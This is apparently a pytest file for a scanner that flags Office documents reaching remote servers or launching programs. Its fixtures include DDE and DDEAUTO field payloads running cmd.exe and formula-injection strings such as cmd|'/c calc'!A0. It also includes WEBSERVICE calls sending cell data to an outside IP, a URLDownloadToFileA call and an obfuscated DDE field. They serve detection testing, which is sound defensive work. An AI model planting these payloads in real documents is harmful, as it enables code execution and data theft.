"""What leads to another computer, and what starts something: names, fields and formulas."""

from __future__ import annotations

import pytest

from files.reading.elsewhere import is_elsewhere
from files.reading.found import FileFault
from files.reading.office import fields, formulas
from files.reading.office.fields import Fields


@pytest.mark.parametrize(
    "target",
    [
        "http://203.0.113.9/a.png",
        "HTTPS://example.org",
        "ftp://example.org/a",
        "smb://server/share",
        "mhtml:http://example.org/a!b",
        "\\\\203.0.113.9\\share\\logo.png",
        "//server/share/a.png",
        "\\\\?\\UNC\\server\\share\\a",
        "file://server/share/a.dotm",
        "file:////server/share/a.dotm",
        "file:///\\\\203.0.113.9\\share\\logo.png",
        "file:\\\\server\\share",
        "file:///%5C%5Cserver%5Cshare",
        "%5c%5cserver%5cshare",
        " \t\\\\server\\share",
        '"\\\\server@SSL@443\\share"',
        "file:///\\\\?\\UNC\\server\\share",
    ],
)
def test_servers_are_elsewhere(target):
    assert is_elsewhere(target)


@pytest.mark.parametrize(
    "target",
    [
        "",
        "media/image1.png",
        "../customXml/item1.xml",
        "/word/document.xml",
        "C:\\Users\\Rana\\Templates\\Resume.dotx",
        "c:/a.dotx",
        "file:///C:\\Users\\user\\AppData\\Roaming\\Microsoft\\Templates\\Resume.dotx",
        "file:///C:/Templates/Contoso%20Proposal.dotx",
        "file://localhost/Users/anna/a.dotx",
        "file:///Users/anna/a.dotx",
        "file:////Users/anna/Library/Group%20Containers/UBF8T346G9.Office/a.dotx",
        "file:///Debate.dotm",
        "\\\\?\\C:\\a.docx",
        "Pictures/10000.png",
        "./Object 1",
        "#Sheet1",
        "cid:image001.png@01DC",
        "data:image/png;base64,AAAA",
        "Normal.dotm",
    ],
)
def test_the_writers_own_disk_is_not(target):
    assert not is_elsewhere(target)


@pytest.mark.parametrize(
    ("instruction", "finding"),
    [
        (' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"', FileFault.PROGRAMS),
        ("\u200b\u00a0dde Excel a b", FileFault.PROGRAMS),
        ('INCLUDEPICTURE "http://203.0.113.9/a.png" \\d', FileFault.ELSEWHERE),
        ('INCLUDEPICTURE "\\\\\\\\server\\\\share\\\\a.png"', FileFault.ELSEWHERE),
        ("INCLUDEPICTURE \\d \u201chttps://example.org/a.png\u201d", FileFault.ELSEWHERE),
        ("IMPORT \\\\\\\\server\\\\a.wmf", FileFault.ELSEWHERE),
        ('INCLUDETEXT "C:\\\\secret.txt"', FileFault.ELSEWHERE),
        ('LINK Excel.Sheet.12 "C:\\\\book.xlsx" "Sheet1!R1C1" \\a', FileFault.ELSEWHERE),
        ("DATABASE \\d x \\c y", FileFault.ELSEWHERE),
        ("CONTROL Forms.HTML:Text.1 \\s", FileFault.PROGRAMS),
        ('INCLUDEPICTURE "C:\\\\Users\\\\Rana\\\\logo.png" \\* MERGEFORMATINET', None),
        ('INCLUDEPICTURE "cid:image001.png@01DC"', None),
        ('HYPERLINK "https://example.org"', None),
        ("ADDIN ZOTERO_ITEM CSL_CITATION {}", None),
        ("TOC \\o 1-3 \\h", None),
        ("MACROBUTTON NoMacro Click here", None),
        ("MERGEFIELD DDE", None),
        ("PAGE", None),
        ("", None),
    ],
)
def test_fields_are_judged_by_their_first_word(instruction, finding):
    assert fields.finding_in(instruction) == finding


def test_a_field_is_put_together_from_its_runs():
    split = Fields()
    split.begin()
    for piece in (" D", "D", "E", "AUTO cmd"):
        split.instruction(piece)
    assert split.separate() == FileFault.PROGRAMS
    assert split.end() == FileFault.PROGRAMS


def test_a_field_that_never_ends_is_judged_with_the_part():
    unfinished = Fields()
    unfinished.begin()
    unfinished.instruction("DDEAUTO cmd")
    assert unfinished.rest() == FileFault.PROGRAMS
    stray = Fields()
    stray.instruction("DDE cmd")
    assert stray.rest() == FileFault.PROGRAMS


def test_a_word_that_an_inner_field_spells_counts():
    """{ { QUOTE 68 68 69 } cmd } reads as { DDE cmd }."""
    outer = Fields()
    outer.begin()
    outer.begin()
    outer.instruction(" QUOTE 68 68 69 ")
    assert outer.end() is None
    outer.instruction(" cmd")
    assert outer.end() == FileFault.PROGRAMS


def test_the_result_of_a_field_is_text():
    shown = Fields()
    shown.begin()
    shown.instruction("PAGE")
    shown.separate()
    shown.text("DDEAUTO is a word")
    assert shown.end() is None


@pytest.mark.parametrize(
    ("formula", "finding"),
    [
        ('_xlfn.WEBSERVICE("http://203.0.113.9/"&A1)', FileFault.ELSEWHERE),
        ("_xlfn.IMAGE(A1)", FileFault.ELSEWHERE),
        ('1+webservice ("a")', FileFault.ELSEWHERE),
        ("cmd|'/c calc'!A0", FileFault.PROGRAMS),
        ("-2+3+cmd|' /C calc'!A0", FileFault.PROGRAMS),
        ('of:=DDE("soffice";"a.ods";"A1")', FileFault.PROGRAMS),
        ('RTD("a",,"b")', FileFault.PROGRAMS),
        ('CALL("urlmon","URLDownloadToFileA")', FileFault.PROGRAMS),
        ("'https://example.org/[a.xlsx]Sheet 1'!A1", FileFault.ELSEWHERE),
        ("of:=['file://server/share/a.ods'#$Sheet1.A1]", FileFault.ELSEWHERE),
        ("of:=['file:///C:/a.ods'#$Sheet1.A1]", None),
        ('HYPERLINK("https://example.org","site")', None),
        ('IF(A1="WEBSERVICE(",1,2)', None),
        ("SUM('Plan | budget'!A1:A9)", None),
        ("RECALL(A1)+MYIMAGE(A2)", None),
        ("[1]Sheet1!A1", None),
        ("Sheet1!$A$1:$B$2", None),
    ],
)
def test_formulas_are_judged_by_what_they_call(formula, finding):
    assert formulas.finding_in(formula) == finding
